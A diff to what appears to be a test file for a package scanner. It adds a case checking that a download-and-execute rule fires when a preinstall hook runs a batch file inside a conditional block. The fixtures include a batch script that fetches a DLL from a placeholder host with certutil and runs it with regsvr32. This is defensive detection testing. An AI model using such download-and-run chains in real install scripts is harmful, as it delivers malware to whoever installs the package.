@@ -126,6 +126,9 @@ def test_shell_file_that_downloads_then_runs_is_a_dropper():
     assert drop.file == "setup.sh" and drop.line == 3 and drop.details["downloaded_at"] == 2
     batch = (b"@echo off\r\ncertutil.exe -urlcache -f https://dl.example/a.dll a.dll\r\nregsvr32.exe -s a.dll\r\n")
     assert "install-script/download-execute" in rules(artifact({"preinstall": "cmd /c setup.bat"}, {"setup.bat": batch}))
+    # A batch block runs the file too (blind set 9: `call` inside `if exist ... ( ... ) else ( ... )`).
+    guarded = {"preinstall": "if exist scripts\\setup.cmd (call scripts\\setup.cmd) else (exit 0)"}
+    assert "install-script/download-execute" in rules(artifact(guarded, {"scripts/setup.cmd": batch}))
     # Downloading a prebuilt archive and unpacking it is not running a download.
     fetch_only = b"curl -sL https://github.com/o/r/releases/download/v1/x.tgz -o x.tgz\ntar xzf x.tgz\n"
     assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
